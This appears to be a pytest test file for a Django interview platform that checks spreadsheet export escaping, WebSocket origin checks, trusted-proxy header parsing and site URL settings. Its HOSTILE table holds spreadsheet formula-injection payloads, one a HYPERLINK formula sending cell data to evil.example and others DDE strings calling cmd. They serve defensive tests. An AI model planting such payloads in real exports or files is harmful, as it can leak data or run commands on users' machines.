"""Issue 15, the web-facing part: export escaping, WebSocket origins, proxy headers, declared settings and
SITE_URL, receivers connected at start-up."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from channels.testing import WebsocketCommunicator
from django.contrib import admin
from django.core.cache import cache
from django.urls import reverse
from rest_framework.test import APIClient

from interview import models as m
from interview.core.checks import check_site_url
from live_interview.origins import OriginValidator
from live_interview.proxies import ProxyHeadersMiddleware, parse_trusted_proxies
from tests import factories as f

ROOT = Path(__file__).resolve().parents[2]
PRODUCTION = {"DJANGO_DEBUG": "0", "DJANGO_SECRET_KEY": "k" * 60, "DJANGO_SETTINGS_MODULE": "live_interview.settings"}


def _python(code: str, **env: str) -> subprocess.CompletedProcess[str]:
    """Run `code` in a fresh interpreter (no pytest loaded, so settings behave as in a deployment)."""
    environ = {k: v for k, v in os.environ.items() if k != "DJANGO_SITE_URL"} | PRODUCTION | env
    return subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=environ, capture_output=True, text=True, timeout=60
    )


# --- Settings: every one declared, SITE_URL required in production -------------------------------


def test_settings_code_reads_no_undeclared_setting():
    sources = [p for folder in ("interview", "consumers", "live_interview") for p in (ROOT / folder).rglob("*.py")]
    offenders = [str(p.relative_to(ROOT)) for p in sources if re.search(r"getattr\(\s*settings\b", p.read_text())]
    assert offenders == []


def test_settings_refuse_production_without_site_url():
    result = _python("import django; django.setup()")
    assert result.returncode != 0 and "DJANGO_SITE_URL is required" in result.stderr


def test_settings_refuse_site_url_with_a_path():
    result = _python("import django; django.setup()", DJANGO_SITE_URL="https://interview.example.com/app")
    assert result.returncode != 0 and "DJANGO_SITE_URL must be like" in result.stderr


def test_invitation_links_use_configured_site_url():
    code = "import django; django.setup(); from interview.hiring.services import site_url; print(site_url('/i/'))"
    result = _python(code, DJANGO_SITE_URL="https://interview.example.com/")
    assert result.stdout.strip() == "https://interview.example.com/i/", result.stderr


def test_check_site_url_errors_on_localhost(settings):
    settings.SITE_URL = "http://localhost:8000"
    assert [message.id for message in check_site_url()] == ["interview.E001"]


def test_check_site_url_clean_for_public_https_site(settings):
    settings.SITE_URL = "https://interview.example.com"
    settings.ALLOWED_HOSTS = ["interview.example.com"]
    assert check_site_url() == []


def test_check_site_url_warns_on_host_not_allowed(settings):
    settings.SITE_URL = "https://interview.example.com"
    settings.ALLOWED_HOSTS = ["other.example.com"]
    assert [message.id for message in check_site_url()] == ["interview.W002"]


def test_check_deploy_fails_without_site_url():
    result = _python(
        "import sys; from django.core.management import execute_from_command_line; "
        "execute_from_command_line(['manage.py', 'check', '--deploy'])",
        DJANGO_DEBUG="1",
    )
    assert result.returncode != 0 and "interview.E001" in result.stderr


# --- Receivers: connected by the app, whatever the process serves first --------------------------


@pytest.mark.parametrize("uid", ["interview.reports.services.on_chat_completed", "hiring.invitation_on_chat_completed"])
def test_chat_completed_receivers_connected_after_setup(uid):
    code = (
        "import django; django.setup(); from interview.interviews.signals import chat_completed; "
        f"print(chat_completed.disconnect(dispatch_uid={uid!r}))"
    )
    result = _python(code, DJANGO_DEBUG="1")
    assert result.stdout.strip() == "True", result.stderr


# --- Admin exports: no cell runs as a formula ------------------------------------------------------

HOSTILE = {
    # Each fits the narrowest column it is stored in (Chat.title, 50 characters; PostgreSQL enforces it).
    "=": '=HYPERLINK("https://evil.example/?x="&A2,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# The model, the column holding the hostile text, and how to store it there.
EXPORTS = {
    "chat-title": (m.Chat, "title", lambda text: f.ChatFactory(title=text)),
    "role-request-reason": (m.RoleChangeRequest, "reason", lambda text: f.RoleChangeRequestFactory(reason=text)),
    "resume-title": (m.UploadedResume, "title", lambda text: f.ResumeFactory(title=text)),
}
FORMATS = {"csv": "0", "xlsx": "1"}  # their places in the admin's export form


def _export(client, model, fmt: str) -> list[dict[str, object]]:
    """Export every row of `model` through the admin in `fmt` and read the file back as dicts."""
    resource = admin.site._registry[model].resource_classes[0]
    columns = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    response = client.post(url, {"format": FORMATS[fmt], "resource": "0", **columns})
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = [[cell for cell in row] for row in sheet.iter_rows()]
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]  # no formula cell
    names = [cell.value for cell in header]
    return [dict(zip(names, (cell.value for cell in row), strict=True)) for row in rows]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("trigger", HOSTILE)
@pytest.mark.parametrize("case", EXPORTS)
def test_admin_export_escapes_formula(admin_client, case, trigger, fmt):
    model, column, build = EXPORTS[case]
    build(HOSTILE[trigger])
    (row,) = _export(admin_client, model, fmt)
    assert row[column] == "'" + HOSTILE[trigger]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_admin_export_keeps_plain_text_and_numbers(admin_client, fmt):
    chat = f.ChatFactory(title="Backend interview - round 2")
    (row,) = _export(admin_client, m.Chat, fmt)
    assert row["title"] == "Backend interview - round 2" and str(row["id"]) == str(chat.pk)


@pytest.mark.django_db
def test_admin_export_xlsx_replaces_control_characters(admin_client):
    f.ChatFactory(title="Line\x01feed")
    (row,) = _export(admin_client, m.Chat, "xlsx")
    assert row["title"] == "Line\ufffdfeed"


# --- Proxy headers: believed only from a configured proxy ------------------------------------------


@pytest.fixture
def empty_throttle():
    cache.clear()
    yield
    cache.clear()


def _token_attempts(count: int, forwarded_for) -> set[int]:
    """POST wrong passwords to the throttled token endpoint, each with the X-Forwarded-For `forwarded_for(i)`."""
    api = APIClient()
    data = {"username": "candidate", "password": "wrong"}
    return {
        api.post(reverse("api-token"), data, format="json", HTTP_X_FORWARDED_FOR=forwarded_for(i)).status_code
        for i in range(count)
    }


@pytest.mark.django_db
@pytest.mark.usefixtures("empty_throttle", "user")
def test_token_throttle_not_bypassed_by_forged_forwarded_for():
    assert 429 in _token_attempts(21, lambda i: f"203.0.113.{i}")


@pytest.mark.django_db
@pytest.mark.usefixtures("empty_throttle", "user")
def test_token_throttle_counts_the_client_address_the_proxy_middleware_resolved():
    # Behind trusted proxies, ProxyHeadersMiddleware (ASGI) puts the client in REMOTE_ADDR; the login
    # throttle (interview/accounts/throttling.py, shared with the login page) counts that address.
    api = APIClient()
    for i in range(10):
        api.post(reverse("api-token"), {"username": f"nobody{i}", "password": "wrong"}, REMOTE_ADDR="203.0.113.1")
    data = {"username": "candidate", "password": "wrong"}
    assert api.post(reverse("api-token"), data, REMOTE_ADDR="203.0.113.1").status_code == 429
    assert api.post(reverse("api-token"), data, REMOTE_ADDR="203.0.113.2").status_code == 400


def test_settings_default_trusts_no_proxy(settings):
    assert (settings.TRUSTED_PROXIES, settings.REST_FRAMEWORK["NUM_PROXIES"]) == (0, 0)


def test_settings_trusted_proxies_count_sets_num_proxies():
    code = (
        "import django; django.setup(); from django.conf import settings; print(settings.REST_FRAMEWORK['NUM_PROXIES'])"
    )
    result = _python(code, DJANGO_DEBUG="1", DJANGO_TRUSTED_PROXIES="1")
    assert result.stdout.strip() == "1", result.stderr


@pytest.mark.parametrize(
    ("value", "parsed"), [("", 0), (" 2 ", 2), ("10.0.0.2, 10.1.0.0/16", ["10.0.0.2", "10.1.0.0/16"])]
)
def test_parse_trusted_proxies(value, parsed):
    assert parse_trusted_proxies(value) == parsed


def test_parse_trusted_proxies_refuses_garbage():
    with pytest.raises(ValueError):
        parse_trusted_proxies("proxy.example.com")


def test_serving_commands_do_not_pass_daphne_proxy_headers():
    files = ("scripts/serve.sh", "Dockerfile", "docker-compose.yml")
    assert [name for name in files if "proxy-headers" in (ROOT / name).read_text()] == []


async def _seen_scope(trusted, *, peer="198.51.100.7", kind="http", **headers: str) -> dict:
    """The scope the application behind ProxyHeadersMiddleware(trusted) gets for one connection."""
    seen = {}

    async def app(scope, receive, send):
        seen.update(scope)

    scope = {
        "type": kind,
        "scheme": "ws" if kind == "websocket" else "http",
        "client": (peer, 5000),
        "headers": [(name.replace("_", "-").encode(), value.encode()) for name, value in headers.items()],
    }
    await ProxyHeadersMiddleware(app, trusted)(scope, None, None)
    return seen


async def test_proxy_headers_default_keeps_peer_address():
    scope = await _seen_scope(0, x_forwarded_for="203.0.113.9")
    assert scope["client"] == ("198.51.100.7", 5000)


async def test_proxy_headers_default_drops_forwarding_headers():
    scope = await _seen_scope(0, x_forwarded_for="203.0.113.9", x_forwarded_proto="https", accept="*/*")
    assert scope["headers"] == [(b"accept", b"*/*")] and scope["scheme"] == "http"


async def test_proxy_headers_count_takes_address_the_proxy_appended():
    scope = await _seen_scope(1, x_forwarded_for="6.6.6.6, 203.0.113.9")
    assert scope["client"][0] == "203.0.113.9"


async def test_proxy_headers_count_takes_forwarded_proto_for_websocket():
    scope = await _seen_scope(1, kind="websocket", x_forwarded_for="203.0.113.9", x_forwarded_proto="https")
    assert scope["scheme"] == "wss"


async def test_proxy_headers_list_walks_back_through_listed_proxies():
    scope = await _seen_scope(["198.51.100.0/24", "10.0.0.2"], x_forwarded_for="6.6.6.6, 203.0.113.9, 10.0.0.2")
    assert scope["client"][0] == "203.0.113.9"


async def test_proxy_headers_list_ignores_headers_from_unlisted_peer():
    scope = await _seen_scope(["10.0.0.2"], x_forwarded_for="203.0.113.9")
    assert scope["client"][0] == "198.51.100.7" and scope["headers"] == []


# --- WebSocket origins: scheme, host and port must match an allowed site ----------------------------


async def _accept(scope, receive, send):
    await receive()
    await send({"type": "websocket.accept"})
    await receive()


async def _opens(origin: str | None, *, host: str = "127.0.0.1:8000", scheme: str = "ws") -> bool:
    """Whether a socket with this Origin (None: no header) and Host header gets through the validator."""
    headers = [(b"host", host.encode())] + ([(b"origin", origin.encode())] if origin is not None else [])
    communicator = WebsocketCommunicator(OriginValidator(_accept), "/ws/interview/1/", headers=headers)
    communicator.scope["scheme"] = scheme
    connected, _ = await communicator.connect()
    await communicator.disconnect()
    return connected


@pytest.fixture
def site(settings):
    settings.ALLOWED_HOSTS = ["127.0.0.1", "localhost", "interview.example.com"]
    settings.WEBSOCKET_ALLOWED_ORIGINS = ["https://interview.example.com", "https://*.partner.example"]
    return settings


@pytest.mark.usefixtures("site")
async def test_origin_same_as_host_opens():
    assert await _opens("http://127.0.0.1:8000")


@pytest.mark.usefixtures("site")
async def test_origin_listed_opens():
    assert await _opens("https://interview.example.com", host="interview.example.com", scheme="ws")


@pytest.mark.usefixtures("site")
async def test_origin_listed_subdomain_pattern_opens():
    assert await _opens("https://app.partner.example")


@pytest.mark.usefixtures("site")
async def test_origin_same_as_host_behind_tls_opens():
    assert await _opens("https://interview.example.com", host="interview.example.com", scheme="wss")


@pytest.mark.usefixtures("site")
@pytest.mark.parametrize(
    "origin",
    [
        pytest.param("http://127.0.0.1:9999", id="wrong-port"),
        pytest.param("https://127.0.0.1:8000", id="wrong-scheme"),
        pytest.param("http://127.0.0.1", id="default-port"),
        pytest.param("http://evil.example:8000", id="other-host"),
        pytest.param("https://interview.example.com:8443", id="listed-host-wrong-port"),
        pytest.param("http://interview.example.com", id="listed-host-wrong-scheme"),
        pytest.param("https://partner.example.evil.net", id="pattern-lookalike"),
        pytest.param("null", id="null"),
        pytest.param("", id="empty"),
        pytest.param("ftp://127.0.0.1:8000", id="other-protocol"),
        pytest.param(None, id="missing"),
    ],
)
async def test_origin_refused(origin):
    assert not await _opens(origin)


@pytest.mark.usefixtures("site")
async def test_origin_same_as_host_refused_when_host_not_allowed():
    assert not await _opens("http://evil.example:8000", host="evil.example:8000")


@pytest.mark.usefixtures("site")
async def test_origin_validator_passes_http_through():
    seen = []

    async def app(scope, receive, send):
        seen.append(scope["type"])

    await OriginValidator(app)({"type": "http", "headers": []}, None, None)
    assert seen == ["http"]


def test_settings_websocket_origins_include_site_url(settings):
    assert settings.SITE_URL in settings.WEBSOCKET_ALLOWED_ORIGINS
